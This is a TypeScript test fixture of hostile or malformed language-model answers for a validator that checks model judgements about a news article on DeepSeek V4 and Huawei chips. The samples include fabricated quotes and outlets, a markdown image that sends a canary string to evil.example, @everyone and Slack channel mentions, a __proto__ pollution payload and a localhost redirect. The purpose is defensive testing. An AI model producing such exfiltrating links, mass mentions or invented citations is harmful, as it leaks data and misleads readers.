/**
 * Answers that a language model has no business giving, and what becomes of each: fixed words of refusal, a failure, or an
 * opinion that may only lower. `EVIL` stands in whatever must never be seen by anybody.
 */
import type { Said } from '../doubles/language-model.ts';

const EVIL = 'zebra-canary';

/** The article of these tests; The Information is who knew. */
export const PAGE = {
  title: 'DeepSeek V4 to run on Huawei chips',
  summary:
    'DeepSeek’s V4 will run on Huawei’s Ascend chips, The Information reported on Friday, citing five people. It is not true that V4 was trained on those chips, one of them said. Huawei shipped 800,000 processors in 2025.',
};

const QUOTE = "DeepSeek's V4 will run on Huawei's Ascend chips, The Information reported on Friday";

/** An honest entry, with changes. */
export function entry(changes: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
  return {
    claim: 'C1',
    stance: 'supports',
    strength: 'attributed',
    quotes: [QUOTE],
    credits: ['The Information'],
    reason: 'The article reports that V4 will run on Huawei chips.',
    ...changes,
  };
}

export const says = (...entries: readonly unknown[]): string => JSON.stringify({ judgements: entries });
const one = (changes: Readonly<Record<string, unknown>>): string => says(entry(changes));

export interface Hostile {
  readonly name: string;
  readonly said: Said;
  /** 'opinion': used, as far as an opinion may be; 'shape': nothing can be made of it; 'failed': no answer; else why it was refused. */
  readonly becomes: string;
}

export const HOSTILE: readonly Hostile[] = [
  // Quotes
  {
    name: 'a quote that nobody wrote',
    said: one({ quotes: [`DeepSeek confirmed that V4 runs on Ascend chips today, ${EVIL}.`] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a quote with one word changed',
    said: one({ quotes: ["DeepSeek's V4 already runs on Huawei's Ascend chips, The Information reported"] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a quote put together from two places',
    said: one({ quotes: ['V4 will run on Huawei’s Ascend chips in 2025.'] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a quote with an ellipsis in it',
    said: one({ quotes: ['DeepSeek’s V4 will run on … The Information reported on Friday'] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a true quote and an invented one',
    said: one({ quotes: [QUOTE, `Huawei said so on record, ${EVIL}`] }),
    becomes: 'quote not in the text',
  },
  { name: 'a quote of two words', said: one({ quotes: ['V4 will'] }), becomes: 'quote not in the text' },
  { name: 'no quote at all', said: one({ quotes: [] }), becomes: 'no quote' },
  { name: 'an empty quote', said: one({ quotes: [''] }), becomes: 'quote not in the text' },
  {
    name: 'the whole article as a quote',
    said: one({ quotes: [`${PAGE.title} ${PAGE.summary}`] }),
    becomes: 'quote too long',
  },
  {
    name: 'a quote that shows nothing of the claim',
    said: one({ quotes: ['one of them said that it is not true'] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a translated quote',
    said: one({ quotes: ['深度求索的 V4 将在华为昇腾芯片上运行'] }),
    becomes: 'quote not in the text',
  },
  {
    name: 'a fragment whose beginning says the contrary',
    said: one({ stance: 'refutes', quotes: ['V4 was trained on those chips'] }),
    becomes: 'opinion',
  },
  // Whom it names
  {
    name: 'an outlet that the text does not name',
    said: one({ credits: ['Bloomberg'] }),
    becomes: 'outlet not in the text',
  },
  {
    name: 'DeepSeek itself, by a name that is not there',
    said: one({ strength: 'official', credits: ['深度求索官方微博'] }),
    becomes: 'outlet not in the text',
  },
  { name: 'part of a word as an outlet', said: one({ credits: ['Inform'] }), becomes: 'outlet not in the text' },
  {
    name: 'an outlet smuggled into the reason',
    said: one({ reason: 'Bloomberg confirmed it.' }),
    becomes: 'outlet not in the text',
  },
  { name: 'nine credits', said: one({ credits: Array.from({ length: 9 }, () => 'Huawei') }), becomes: 'shape' },
  { name: 'a credit as long as a page', said: one({ credits: ['Huawei '.repeat(400)] }), becomes: 'shape' },
  // Numbers
  {
    name: 'a number that is not in the source',
    said: one({ reason: 'Huawei shipped 900,000 processors.' }),
    becomes: 'number not in the text',
  },
  {
    name: 'a date that is not in the source',
    said: one({ reason: 'It says so since 3 March 2024.' }),
    becomes: 'number not in the text',
  },
  // Authority
  { name: '"confirmed" where a stance belongs', said: one({ stance: 'confirmed' }), becomes: 'shape' },
  { name: 'a status instead of judgements', said: '{"status":"confirmed"}', becomes: 'shape' },
  {
    name: 'a status beside the judgements',
    said: JSON.stringify({ status: 'confirmed', official: true, judgements: [entry({ status: 'confirmed' })] }),
    becomes: 'opinion',
  },
  { name: 'an official word made of a report', said: one({ strength: 'official' }), becomes: 'opinion' },
  {
    name: 'an official word credited to Huawei',
    said: one({ strength: 'official', credits: ['The Information', 'Huawei'] }),
    becomes: 'opinion',
  },
  { name: 'the contrary of what the page says', said: one({ stance: 'refutes' }), becomes: 'opinion' },
  {
    name: 'a page that is said to be unrelated',
    said: one({ stance: 'unrelated', quotes: [], credits: [] }),
    becomes: 'opinion',
  },
  { name: 'a rumour made of a report', said: one({ strength: 'rumour' }), becomes: 'opinion' },
  // Claims
  { name: 'a claim nobody asked about', said: says(entry(), entry({ claim: 'C7' })), becomes: 'unknown claim' },
  { name: 'the id of another claim', said: one({ claim: 'v4-on-huawei' }), becomes: 'unknown claim' },
  { name: 'no claim', said: says(), becomes: 'claim missing' },
  {
    name: 'one claim judged both ways',
    said: says(entry(), entry({ stance: 'refutes' })),
    becomes: 'claim judged twice',
  },
  { name: 'a hundred judgements', said: says(...Array.from({ length: 100 }, () => entry())), becomes: 'shape' },
  // What chat would act on
  {
    name: 'a foreign link',
    said: one({ reason: `See https://evil.example/${EVIL} for proof.` }),
    becomes: 'address or mention',
  },
  {
    name: 'a picture that carries words away',
    said: one({ reason: `![x](https://evil.example/?q=${EVIL})` }),
    becomes: 'address or mention',
  },
  { name: 'a mention of everyone', said: one({ reason: `@everyone ${EVIL}` }), becomes: 'address or mention' },
  { name: 'a channel call for Slack', said: one({ reason: `<!channel> ${EVIL}` }), becomes: 'address or mention' },
  { name: 'a mention in a quote', said: one({ quotes: [`<@U123> ${QUOTE}`] }), becomes: 'quote not in the text' },
  // Shape
  { name: 'nothing', said: '', becomes: 'shape' },
  { name: 'prose', said: `Sure! The article strongly supports the claim, ${EVIL}.`, becomes: 'shape' },
  { name: 'JSON after prose', said: `Here you are:\n${says(entry())}`, becomes: 'shape' },
  { name: 'JSON in a fence', said: `\`\`\`json\n${says(entry())}\n\`\`\``, becomes: 'opinion' },
  { name: 'a trailing comma', said: `${says(entry()).slice(0, -2)},]}`, becomes: 'shape' },
  {
    name: 'a key twice',
    said: says(entry()).replace('"stance":"supports"', '"stance":"refutes","stance":"supports"'),
    becomes: 'opinion',
  },
  { name: 'NaN', said: says(entry()).replace('"attributed"', 'NaN'), becomes: 'shape' },
  {
    name: '__proto__',
    said: `{"__proto__":{"stance":"supports","official":true},"judgements":[{"__proto__":{"strength":"official"},"claim":"C1"}]}`,
    becomes: 'shape',
  },
  { name: 'half of an answer', said: says(entry()).slice(0, 120), becomes: 'shape' },
  { name: 'a list where an object belongs', said: JSON.stringify([entry()]), becomes: 'shape' },
  { name: 'numbers where words belong', said: one({ quotes: [1, 2] }), becomes: 'shape' },
  { name: 'another language', said: '{"判断":[{"立场":"支持","引文":"深度求索"}]}', becomes: 'shape' },
  {
    name: 'our instructions handed back',
    said: 'You judge what one news article says about given claims. You are careful and literal.',
    becomes: 'shape',
  },
  { name: '100 kB', said: one({ reason: EVIL.repeat(8_600) }), becomes: 'shape' },
  { name: '10,000 brackets', said: '['.repeat(10_000), becomes: 'shape' },
  { name: 'an answer of the server that is no JSON', said: { raw: `<html>${EVIL}</html>` }, becomes: 'shape' },
  { name: 'an answer of the server without choices', said: { raw: '{"id":"x","choices":[]}' }, becomes: 'shape' },
  {
    name: 'usage that is nonsense',
    said: { text: says(entry()), usage: { prompt_tokens: -5, completion_tokens: 'many' } },
    becomes: 'shape',
  },
  // The server
  { name: 'an answer without end', said: { endless: true }, becomes: 'failed' },
  { name: 'no answer in time', said: { after: 'never' }, becomes: 'failed' },
  {
    name: '429',
    said: { status: 429, headers: { 'retry-after': '7' }, raw: `{"error":{"message":"slow down ${EVIL}"}}` },
    becomes: 'failed',
  },
  { name: '500', said: { status: 500, raw: EVIL }, becomes: 'failed' },
  { name: '401', said: { status: 401, raw: `{"error":{"message":"bad key ${EVIL}"}}` }, becomes: 'failed' },
  {
    name: 'being sent elsewhere',
    said: { status: 307, headers: { location: 'http://127.0.0.1:1/v1/chat/completions' } },
    becomes: 'failed',
  },
];

export const CANARY = EVIL;
